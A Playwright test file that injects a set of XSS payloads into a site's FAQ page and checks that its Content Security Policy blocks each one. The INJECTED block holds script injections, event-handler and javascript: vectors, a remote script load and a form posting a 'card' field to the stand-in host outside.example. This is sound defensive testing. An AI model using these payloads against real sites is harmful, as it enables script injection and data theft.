import { RUN } from "../support/xss-vectors";
import { expect, test } from "./support/test";

const OUT = "https://outside.example";

/**
 * What an attacker might inject into a page if the sanitizer failed. The form is submitted into a
 * frame, because Playwright sometimes waits forever for a blocked navigation of the page itself.
 */
const INJECTED = `
  <script>${RUN}</script>
  <script type="module">${RUN}</script>
  <script src="${OUT}/x.js"></script>
  <script src="data:text/javascript,${RUN}"></script>
  <img src="/favicon.svg" alt="" onload="${RUN}">
  <a id="trap" href="javascript:${RUN}">Trap</a>
  <iframe name="sink" srcdoc="<script>parent.${RUN}</script>"></iframe>
  <object data="${OUT}/x"></object>
  <base href="${OUT}/">
  <link rel="stylesheet" href="${OUT}/x.css">
  <form id="form" action="${OUT}/" target="sink"><input name="card" value="1"></form>`;

// All other tests show that the site itself violates no rule: a violation is an error in the
// console, which fails them.
test("the content security policy blocks everything that is injected into a page", async ({
  page,
  watch,
}) => {
  watch.allowConsole(/Content Security Policy/);
  await page.route("/faq", async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace("</body>", `${INJECTED}</body>`);
    await route.fulfill({ response, body });
  });
  const violations = new Set<string>();
  await page.exposeFunction("recordViolation", (violation: string) => violations.add(violation));
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
      const record: unknown = Reflect.get(window, "recordViolation");
      if (typeof record !== "function") return;
      Reflect.apply(record, window, [`${effectiveDirective} ${blockedURI}`]);
    });
  });
  await page.goto("/faq");
  await page.evaluate(
    ([code, outside]) => {
      document.querySelector<HTMLElement>("#trap")?.click();
      document.querySelector<HTMLFormElement>("#form")?.submit();
      // A timer evaluates a string as code.
      Reflect.apply(setTimeout, window, [code]);
      fetch(outside).catch(() => undefined);
      const script = document.createElement("script");
      script.textContent = code;
      document.body.append(script);
    },
    [RUN, OUT] as const,
  );

  await expect
    .poll(() => [...violations].sort())
    .toEqual(
      [
        "base-uri https://outside.example/",
        "connect-src https://outside.example/",
        "form-action https://outside.example/?card=1",
        "object-src https://outside.example",
        "script-src eval",
        "script-src-attr inline",
        "script-src-elem data",
        "script-src-elem https://outside.example/x.js",
        "script-src-elem inline",
        "style-src-elem https://outside.example/x.css",
      ].sort(),
    );
  await expect(page.locator("html")).not.toHaveAttribute("data-run");
  await expect(page).toHaveURL("/faq");
  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
});
